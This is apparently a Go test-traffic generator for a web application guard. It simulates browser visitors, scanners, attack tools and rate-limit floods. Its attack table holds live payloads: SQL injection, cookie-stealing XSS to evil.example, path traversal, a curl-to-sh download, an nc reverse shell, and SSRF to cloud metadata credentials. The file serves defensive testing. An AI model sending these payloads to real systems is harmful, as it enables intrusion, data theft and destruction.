package demo

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"net/http"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// This file holds the simulated clients: browser header sets, the visitors' scripts, and
// the attackers' requests.

// pool hands out client addresses from documentation ranges, round robin: three IPv4
// clients, then one IPv6 client with a /64 of its own (the guard limits IPv6 per /64).
type pool struct {
	v4   uint32   // first IPv4 address
	n4   uint32   // number of IPv4 addresses
	v6   [16]byte // a /48
	next atomic.Uint32
}

func newPool(first string, n uint32, v6 string) *pool {
	a4 := netip.MustParseAddr(first).As4()
	return &pool{v4: binary.BigEndian.Uint32(a4[:]), n4: n, v6: netip.MustParseAddr(v6).As16()}
}

// take returns the next client address.
func (p *pool) take() string {
	i := p.next.Add(1) - 1
	if i%4 == 3 {
		b, j := p.v6, i/4
		b[6], b[7] = byte(j>>8), byte(j) // the /64 within the /48
		b[15] = byte(1 + j%250)
		return netip.AddrFrom16(b).String()
	}
	var b [4]byte
	binary.BigEndian.PutUint32(b[:], p.v4+(i-i/4)%p.n4)
	return netip.AddrFrom4(b).String()
}

// kind is the kind of browser request, which decides its header set.
type kind int

const (
	navigate  kind = iota // a page load by a click or the address bar
	submit                // a form POST navigation
	subscript             // a <script src> subresource
	fetchJSON             // fetch() of a JSON API
)

// profile is one browser build's header set over HTTP/1.1. Names are canonical: net/http
// canonicalises them on the server side anyway, so middleware cannot see case or order.
type profile struct {
	name      string
	userAgent string
	hints     [3]string // Sec-Ch-Ua, Sec-Ch-Ua-Mobile, Sec-Ch-Ua-Platform; empty but for Chromium
	accept    string    // Accept on navigations
	encoding  string
	languages []string // Accept-Language values this browser's users send
	fetchUser bool     // sends Sec-Fetch-User on user-initiated navigations
	priority  bool     // sends Priority: u=0, i on navigations (Firefox)
	maxAge    bool     // sends Cache-Control: max-age=0 on form submissions (Chromium)
}

const (
	chromiumAccept = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"
	plainAccept    = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
)

// profiles are current browser builds on desktop and mobile.
func profiles() []*profile {
	chromeLangs := []string{"en-US,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "es-ES,es;q=0.9"}
	return []*profile{
		{
			name:      "chrome-windows",
			userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
			hints:     [3]string{`"Chromium";v="156", "Google Chrome";v="156", "Not.A/Brand";v="99"`, "?0", `"Windows"`},
			accept:    chromiumAccept, encoding: "gzip, deflate, br, zstd", languages: chromeLangs,
			fetchUser: true, maxAge: true,
		},
		{
			name:      "chrome-macos",
			userAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
			hints:     [3]string{`"Chromium";v="156", "Google Chrome";v="156", "Not.A/Brand";v="99"`, "?0", `"macOS"`},
			accept:    chromiumAccept, encoding: "gzip, deflate, br, zstd", languages: chromeLangs,
			fetchUser: true, maxAge: true,
		},
		{
			name:      "chrome-android",
			userAgent: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Mobile Safari/537.36",
			hints:     [3]string{`"Chromium";v="156", "Google Chrome";v="156", "Not.A/Brand";v="99"`, "?1", `"Android"`},
			accept:    chromiumAccept, encoding: "gzip, deflate, br, zstd", languages: chromeLangs,
			fetchUser: true, maxAge: true,
		},
		{
			name:      "edge-windows",
			userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36 Edg/156.0.0.0",
			hints:     [3]string{`"Microsoft Edge";v="156", "Chromium";v="156", "Not.A/Brand";v="99"`, "?0", `"Windows"`},
			accept:    chromiumAccept, encoding: "gzip, deflate, br, zstd", languages: chromeLangs,
			fetchUser: true, maxAge: true,
		},
		{
			name:      "firefox-windows",
			userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:150.0) Gecko/20100101 Firefox/150.0",
			accept:    plainAccept, encoding: "gzip, deflate, br, zstd",
			languages: []string{"en-US,en;q=0.5", "fr-FR,fr;q=0.8,en-US;q=0.5,en;q=0.3", "de,en-US;q=0.7,en;q=0.3"},
			fetchUser: true, priority: true,
		},
		{
			name:      "firefox-linux",
			userAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:150.0) Gecko/20100101 Firefox/150.0",
			accept:    plainAccept, encoding: "gzip, deflate, br, zstd",
			languages: []string{"en-US,en;q=0.5", "nl,en-US;q=0.7,en;q=0.3"},
			fetchUser: true, priority: true,
		},
		{
			name:      "safari-macos",
			userAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15",
			accept:    plainAccept, encoding: "gzip, deflate, br",
			languages: []string{"en-GB,en;q=0.9", "en-US,en;q=0.9", "ja-JP,ja;q=0.9"},
		},
		{
			// iOS 26 freezes the OS version in the User-Agent at 18_6.
			name:      "safari-ios",
			userAgent: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Mobile/15E148 Safari/604.1",
			accept:    plainAccept, encoding: "gzip, deflate, br",
			languages: []string{"en-US,en;q=0.9", "it-IT,it;q=0.9"},
		},
	}
}

// visitor is one simulated browser: an address, a header set and a cookie jar.
type visitor struct {
	ip       string
	p        *profile
	lang     string
	cookies  []*http.Cookie // in the order they were set, as browsers send them
	base     string         // the site's origin, for Origin and Referer
	loggedIn bool
}

// newVisitor returns a visitor from ip with browser p, or a random browser when p is nil.
func (w *worker) newVisitor(ip string, p *profile) *visitor {
	if p == nil {
		p = pick(w.rng, profiles())
	}
	v := &visitor{ip: ip, p: p, lang: pick(w.rng, p.languages), base: w.base}
	// Returning visitors bring the cookies a real shop leaves behind.
	if w.rng.IntN(2) == 0 {
		v.cookies = append(v.cookies,
			&http.Cookie{Name: "cookie_consent", Value: pick(w.rng, []string{"all", "essential"})},
			&http.Cookie{Name: "_ga", Value: "GA1.1." + strconv.FormatUint(uint64(w.rng.Uint32()), 10) + "." + strconv.FormatInt(time.Now().Add(-time.Duration(w.rng.IntN(90*24))*time.Hour).Unix(), 10)},
		)
	}
	return v
}

// header returns the header set v's browser sends for a request of kind k made from the
// page referer ("" for a typed URL).
func (v *visitor) header(k kind, referer string) http.Header {
	p := v.p
	h := http.Header{}
	set := func(name, value string) {
		if value != "" {
			h[name] = []string{value}
		}
	}
	if p.hints[0] != "" {
		set("Sec-Ch-Ua", p.hints[0])
		set("Sec-Ch-Ua-Mobile", p.hints[1])
		set("Sec-Ch-Ua-Platform", p.hints[2])
	}
	set("User-Agent", p.userAgent)
	set("Accept-Encoding", p.encoding)
	set("Accept-Language", v.lang)
	site := "same-origin"
	if referer == "" {
		site = "none"
	} else {
		set("Referer", v.base+referer)
	}
	switch k {
	case navigate, submit:
		set("Accept", p.accept)
		set("Upgrade-Insecure-Requests", "1")
		set("Sec-Fetch-Dest", "document")
		set("Sec-Fetch-Mode", "navigate")
		set("Sec-Fetch-Site", site)
		if p.fetchUser {
			set("Sec-Fetch-User", "?1")
		}
		if p.priority {
			set("Priority", "u=0, i")
		}
		if k == submit {
			set("Origin", v.base)
			set("Content-Type", "application/x-www-form-urlencoded")
			if p.maxAge {
				set("Cache-Control", "max-age=0")
			}
		}
	case subscript:
		set("Accept", "*/*")
		set("Sec-Fetch-Dest", "script")
		set("Sec-Fetch-Mode", "no-cors")
		set("Sec-Fetch-Site", site)
	case fetchJSON:
		set("Accept", "application/json")
		set("Content-Type", "application/json")
		set("Origin", v.base)
		set("Sec-Fetch-Dest", "empty")
		set("Sec-Fetch-Mode", "cors")
		set("Sec-Fetch-Site", site)
	}
	if len(v.cookies) > 0 {
		parts := make([]string, len(v.cookies))
		for i, c := range v.cookies {
			parts[i] = c.Name + "=" + c.Value
		}
		set("Cookie", strings.Join(parts, "; "))
	}
	return h
}

// keep stores the cookies a response set, replacing same-named ones and dropping
// expired ones.
func (v *visitor) keep(set []*http.Cookie) {
	for _, c := range set {
		i := 0
		for _, old := range v.cookies {
			if old.Name != c.Name {
				v.cookies[i] = old
				i++
			}
		}
		v.cookies = v.cookies[:i]
		if c.MaxAge >= 0 && c.Value != "" {
			v.cookies = append(v.cookies, &http.Cookie{Name: c.Name, Value: c.Value})
		}
	}
}

// Ordinary search terms, some with the quotes, ampersands and keywords that naive
// filters trip over.
var searches = []string{
	"red shoes", "O'Reilly books", "women's running shoes", "rock & roll t-shirt", "50% off",
	"café crème mug", "size 10-12", "drop earrings", "union jack mug", "select fit jeans",
	"USB-C charger 65W", "Ben & Jerry's", "kids' raincoat", "gift card", "\"linen shirt\"",
	"1/2 zip fleece", "sale", "wireless headphones", "C++ primer", "naïve art print",
}

// Cart notes a shopper might type.
var notes = []string{"", "", "gift wrap please", "Can't wait!", "size: M", "Leave at the door; ring twice", "for mum <3"}

// Shoppers' logins.
var logins = [][2]string{
	{"alice@example.com", "correct horse battery staple"},
	{"bob@example.org", "Tr0ub4dor&3"},
	{"chloé@example.net", "Sommer2024!"},
	{"dan.o'brien@example.com", "p4ss word with spaces"},
}

// browse runs browser visitors one after another until ctx ends: each visits a few
// pages with human pauses, searches, logs in or fills the cart.
func (w *worker) browse(ctx context.Context) error {
	// Stagger the visitors' arrival.
	if !w.pause(ctx, 0, 500*time.Millisecond) {
		return nil
	}
	for {
		v := w.newVisitor(w.s.benign.take(), nil)
		if !w.visit(ctx, v) || !w.pause(ctx, 300*time.Millisecond, 1500*time.Millisecond) {
			return nil
		}
	}
}

// visit is one visitor's session. It reports whether ctx is still live.
func (w *worker) visit(ctx context.Context, v *visitor) bool {
	page, ok := w.page(ctx, v, "/", "", "home page")
	if !ok {
		return false
	}
	if _, ok := w.browser(ctx, v, subscript, http.MethodGet, "/static/app.js", page, "", "script"); !ok {
		return false
	}
	for range 2 + w.rng.IntN(7) {
		if !w.pause(ctx, 400*time.Millisecond, 1600*time.Millisecond) {
			return false
		}
		switch r := w.rng.IntN(10); {
		case r < 3:
			page, ok = w.page(ctx, v, "/products", page, "product list")
		case r < 6:
			target := "/products/" + strconv.Itoa(1+w.rng.IntN(len(catalogue)))
			page, ok = w.page(ctx, v, target, page, "product page")
			if ok && w.rng.IntN(2) == 0 {
				ok = w.addToCart(ctx, v, page)
			}
		case r < 8:
			q := pick(w.rng, searches)
			page, ok = w.page(ctx, v, "/search?q="+url.QueryEscape(q), page, "search "+strconv.Quote(q))
		case v.loggedIn:
			continue
		case r == 8:
			page, ok = w.login(ctx, v, page)
		default:
			page, ok = w.signup(ctx, v, page)
		}
		if !ok {
			return false
		}
	}
	return true
}

// page navigates v to target from the page referer and returns target as the new
// current page.
func (w *worker) page(ctx context.Context, v *visitor, target, referer, what string) (string, bool) {
	_, ok := w.browser(ctx, v, navigate, http.MethodGet, target, referer, "", what)
	return target, ok
}

// browser sends one request of visitor v and keeps the cookies it set.
func (w *worker) browser(ctx context.Context, v *visitor, k kind, method, target, referer, body, what string) (response, bool) {
	q := request{class: ClassBrowser, what: v.p.name + ": " + what, method: method, target: target, header: v.header(k, referer), body: body}
	res, ok := w.do(ctx, q, v.ip)
	if ok {
		v.keep(res.cookies)
	}
	return res, ok
}

// login opens the login page, types for a while, posts the form and follows the
// redirect.
func (w *worker) login(ctx context.Context, v *visitor, referer string) (string, bool) {
	page, ok := w.page(ctx, v, "/login", referer, "login page")
	if !ok || !w.pause(ctx, time.Second, 3*time.Second) {
		return page, false
	}
	cred := pick(w.rng, logins)
	form := url.Values{"email": {cred[0]}, "password": {cred[1]}, "remember": {"on"}}.Encode()
	res, ok := w.browser(ctx, v, submit, http.MethodPost, "/login", page, form, "login form")
	if !ok {
		return page, false
	}
	if res.status != http.StatusSeeOther || res.location == "" {
		return page, true
	}
	v.loggedIn = true
	return w.page(ctx, v, res.location, page, "after login")
}

// New customers' names and mailbox providers.
var (
	firstNames = []string{"alice", "ben", "chloe", "dev", "elena", "farid", "grace", "hugo", "ines", "jamal"}
	lastNames  = []string{"martin", "nguyen", "okafor", "schmidt", "rossi", "kowalski", "tanaka", "dubois"}
	mailboxes  = []string{"gmail.com", "outlook.com", "icloud.com", "proton.me", "yahoo.co.uk", "web.de", "example.com"}
)

// signup opens the signup page, fills it in with an ordinary address and follows the
// redirect to the new account.
func (w *worker) signup(ctx context.Context, v *visitor, referer string) (string, bool) {
	page, ok := w.page(ctx, v, "/signup", referer, "signup page")
	if !ok || !w.pause(ctx, time.Second, 3*time.Second) {
		return page, false
	}
	first, last := pick(w.rng, firstNames), pick(w.rng, lastNames)
	email := first + "." + last + strconv.Itoa(w.rng.IntN(100)) + "@" + pick(w.rng, mailboxes)
	form := url.Values{"name": {first + " " + last}, "email": {email}, "password": {rand.Text()}}.Encode()
	res, ok := w.browser(ctx, v, submit, http.MethodPost, "/signup", page, form, "signup form")
	if !ok {
		return page, false
	}
	if res.status != http.StatusSeeOther || res.location == "" {
		return page, true
	}
	v.loggedIn = true
	return w.page(ctx, v, res.location, page, "after signup")
}

// addToCart posts a JSON cart line the way the shop's script does.
func (w *worker) addToCart(ctx context.Context, v *visitor, referer string) bool {
	line := map[string]any{"product_id": 1 + w.rng.IntN(len(catalogue)), "quantity": 1 + w.rng.IntN(3)}
	if n := pick(w.rng, notes); n != "" {
		line["note"] = n
	}
	body, _ := json.Marshal(line) // cannot fail: strings and ints
	_, ok := w.browser(ctx, v, fetchJSON, http.MethodPost, "/api/cart", referer, string(body), "add to cart")
	return ok
}

// Bait paths that no real visitor asks for. Every scan starts with one of the first
// three, which the default honeypot list holds; the ban it places blocks the rest.
var baitFirst = []string{"/.env", "/.git/config", "/wp-login.php"}

var baitMore = []string{
	"/.aws/credentials", "/.git/HEAD", "/wp-admin/setup-config.php", "/phpmyadmin/index.php",
	"/config.php.bak", "/server-status", "/.DS_Store", "/backup.sql", "/actuator/env",
	"/.svn/entries", "/xmlrpc.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
}

// Pages of the shop that scanners and tools try after (or instead of) bait paths.
var ordinaryPages = []string{"/", "/products", "/products/3", "/login", "/search?q=shoes"}

// Recon scripts' header sets: a library User-Agent, or a stale browser one alone.
var scannerHeaders = []http.Header{
	{"User-Agent": {"curl/8.11.1"}, "Accept": {"*/*"}},
	{"User-Agent": {"python-requests/2.32.3"}, "Accept": {"*/*"}, "Accept-Encoding": {"gzip, deflate"}},
	{"User-Agent": {"Go-http-client/1.1"}, "Accept-Encoding": {"gzip"}},
	{"User-Agent": {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"}},
}

// scan runs scanners one after another: each walks a few bait paths from a new
// address, then tries ordinary pages, which its ban must block.
func (w *worker) scan(ctx context.Context) error {
	for {
		ip, h := w.s.attackers.take(), pick(w.rng, scannerHeaders)
		walk := []request{{what: "bait path", target: pick(w.rng, baitFirst)}}
		for range 2 + w.rng.IntN(4) {
			walk = append(walk, request{what: "bait path while banned", target: pick(w.rng, baitMore)})
		}
		for range 1 + w.rng.IntN(3) {
			walk = append(walk, request{what: "ordinary page while banned", target: pick(w.rng, ordinaryPages)})
		}
		for _, q := range walk {
			q.class, q.method, q.header = ClassScanner, http.MethodGet, h
			if _, ok := w.do(ctx, q, ip); !ok || !w.pause(ctx, 100*time.Millisecond, 300*time.Millisecond) {
				return nil
			}
		}
		if !w.pause(ctx, time.Second, 2*time.Second) {
			return nil
		}
	}
}

// attack is one malicious request: a GET with the payload in its target, or a POST with
// a form or JSON body.
type attack struct {
	what   string
	target string // path and query, percent-encoded as sent
	form   string // an application/x-www-form-urlencoded body: a POST
	json   string // an application/json body: a POST
}

// qs returns path?key=value with value query-escaped the way browsers encode forms.
func qs(path, key, value string) string { return path + "?" + key + "=" + url.QueryEscape(value) }

// formOf encodes a login form.
func formOf(email, password string) string {
	return url.Values{"email": {email}, "password": {password}}.Encode()
}

// attackClasses returns the payload classes with a request list each.
func attackClasses() map[Class][]attack {
	return map[Class][]attack{
		ClassSQLi: {
			{what: "tautology in the query", target: qs("/products", "id", "1' OR '1'='1")},
			{what: "UNION SELECT in the search box", target: qs("/search", "q", "' UNION SELECT username, password FROM users--")},
			{what: "stacked query, %20 for spaces", target: "/products?sort=price%3BDROP%20TABLE%20users--"},
			{what: "comment-obfuscated mixed-case UNION", target: qs("/products", "id", "1/**/UnIoN/**/SeLeCt/**/1,2,group_concat(password)/**/FROM/**/users")},
			{what: "time-based blind", target: qs("/products", "id", "1 AND SLEEP(5)")},
			{what: "double URL-encoded tautology", target: "/search?q=%2527%2520OR%25201%253D1--"},
			{what: "IIS %u-encoded quote", target: "/search?q=%u0027%20OR%201%3D1--"},
			{what: "error-based in the path", target: "/products/1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20"},
			{what: "login bypass in the form body", form: formOf("admin'--", "anything")},
			{what: "tautology in the form body", form: formOf("' OR 1=1 LIMIT 1-- -", "x")},
			{what: "UNION SELECT in a JSON body", json: `{"product_id":"1 UNION SELECT card_number FROM payments--","quantity":1}`},
		},
		ClassXSS: {
			{what: "script tag in the search box", target: qs("/search", "q", "<script>alert(1)</script>")},
			{what: "attribute breakout with onerror", target: qs("/search", "q", `"><img src=x onerror=alert(document.cookie)>`)},
			{what: "svg onload", target: qs("/search", "q", "<svg/onload=alert(1)>")},
			{what: "double URL-encoded script tag", target: "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"},
			{what: "iframe with a javascript: URL", target: qs("/products", "ref", `<iframe src="javascript:alert(document.domain)">`)},
			{what: "script tag in a JSON cart note", json: `{"product_id":3,"quantity":1,"note":"<script>fetch('//evil.example/?c='+document.cookie)</script>"}`},
			{what: "JSON \\u-escaped img onerror", json: `{"product_id":2,"quantity":1,"note":"\u003cimg src=x onerror=alert(1)\u003e"}`},
		},
		ClassTraversal: {
			{what: "../ in the path", target: "/static/../../../../etc/passwd"},
			{what: "encoded slashes in the path", target: "/static/..%2f..%2f..%2fetc%2fpasswd"},
			{what: "../ in a parameter", target: qs("/products", "image", "../../../../etc/passwd")},
			{what: "double-encoded ../ in a parameter", target: "/products?image=..%252f..%252f..%252fetc%252fpasswd"},
			{what: "Windows ..\\ in a parameter", target: qs("/products", "image", `..\..\..\windows\win.ini`)},
			{what: "....// filter evasion", target: qs("/products", "image", "....//....//....//etc/passwd")},
		},
		ClassCmdi: {
			{what: "; cat in the search box", target: qs("/search", "q", "shoes; cat /etc/passwd")},
			{what: "$() substitution with a download", target: qs("/products", "id", "1$(curl -s http://203.0.113.9/x.sh|sh)")},
			{what: "backticks", target: qs("/search", "q", "`id`")},
			{what: "reverse shell in the form body", form: formOf("bob@example.org", "x; nc -e /bin/sh 203.0.113.5 4444")},
			{what: "&& whoami", target: qs("/products", "id", "1 && whoami")},
		},
		ClassSSRF: {
			{what: "cloud metadata URL", target: qs("/products", "image", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")},
			{what: "GCP metadata in a JSON body", json: `{"product_id":1,"quantity":1,"image_url":"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}`},
			{what: "gopher:// to Redis on loopback", target: qs("/products", "image", "gopher://127.0.0.1:6379/_FLUSHALL")},
			{what: "file:// URL", target: qs("/products", "image", "file:///etc/passwd")},
			{what: "IPv6-mapped metadata address", target: qs("/products", "image", "http://[::ffff:a9fe:a9fe]/latest/meta-data/")},
		},
	}
}

// attack sends class c's requests in turn, each from a new attacker with a browser
// header set (a person with a browser or an intercepting proxy), paced by class.
func (w *worker) attack(ctx context.Context, c Class, list []attack) error {
	every := 500 * time.Millisecond // sqli and xss: two a second
	if len(list) < 8 {
		every = time.Second // a few of the others
	}
	for i := w.rng.IntN(len(list)); ; i++ {
		a := list[i%len(list)]
		v := w.newVisitor(w.s.attackers.take(), nil)
		q := request{class: c, what: a.what, method: http.MethodGet, target: a.target}
		switch {
		case a.form != "":
			q.method, q.target, q.body, q.header = http.MethodPost, "/login", a.form, v.header(submit, "/login")
		case a.json != "":
			q.method, q.target, q.body, q.header = http.MethodPost, "/api/cart", a.json, v.header(fetchJSON, "/products")
		default:
			q.header = v.header(navigate, "")
		}
		if _, ok := w.do(ctx, q, v.ip); !ok || !w.pause(ctx, every/2, every*3/2) {
			return nil
		}
	}
}

// Tools that name themselves.
var toolAgents = []string{
	"sqlmap/1.8.12#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
	"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
	"WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"Fuzz Faster U Fool v2.1.0-dev",
	"gobuster/3.6",
	"Mozilla/5.0 zgrab/0.x",
}

// bots runs attack tools that announce themselves, each asking for a few ordinary pages
// from its own address.
func (w *worker) bots(ctx context.Context) error {
	for {
		ip, ua := w.s.attackers.take(), pick(w.rng, toolAgents)
		h := http.Header{"User-Agent": {ua}, "Accept": {"*/*"}}
		for range 2 + w.rng.IntN(3) {
			q := request{class: ClassBot, what: "ordinary page, tool User-Agent", method: http.MethodGet, target: pick(w.rng, ordinaryPages), header: h}
			if _, ok := w.do(ctx, q, ip); !ok || !w.pause(ctx, 200*time.Millisecond, 600*time.Millisecond) {
				return nil
			}
		}
		if !w.pause(ctx, 500*time.Millisecond, 1500*time.Millisecond) {
			return nil
		}
	}
}

// floodConns is how many connections a flood uses at once, and floodEvery the pause
// between two requests on one connection: together 100 requests a second, and still
// well over the demo's limit on a slow, busy machine.
const (
	floodConns = 4
	floodEvery = 40 * time.Millisecond
)

// flood sends waves of ordinary requests, each wave from one new client over several
// connections at once, well past the rate limit: twice the burst plus a second's worth.
// Within a wave the first requests fit the limit; once the limit admitted all it may,
// the rest must be answered 429.
func (w *worker) flood(ctx context.Context) error {
	l := w.s.cfg.RateLimit
	burst := l.Burst
	if burst <= 0 {
		burst = l.Rate
	}
	n := int64(min(2*burst+int(float64(l.Rate)/l.Period.Seconds()), 300))
	for {
		v := w.newVisitor(w.s.flooders.take(), profiles()[0])
		q := request{
			class: ClassFlood, what: "ordinary page, far over the rate limit", method: http.MethodGet,
			target: pick(w.rng, []string{"/", "/products", "/search?q=shoes"}), header: v.header(navigate, ""),
		}
		var (
			start         = time.Now()
			sent, allowed atomic.Int64
			conns         sync.WaitGroup
		)
		for range floodConns {
			conns.Go(func() {
				for sent.Add(1) <= n {
					res, ok := w.send(ctx, q, v.ip)
					if !ok {
						return
					}
					good := false
					switch res.got {
					case gotAllow:
						// Every allowed response counted so far was admitted since start.
						good = allowed.Add(1) <= int64(floodAllowance(l, time.Since(start)))
					case gotRateLimit:
						good = true
					}
					w.s.record(ClassFlood, good, outcome(q, v.ip, res))
					if !sleep(ctx, floodEvery) {
						return
					}
				}
			})
		}
		conns.Wait()
		if !w.pause(ctx, 2*time.Second, 4*time.Second) {
			return nil
		}
	}
}
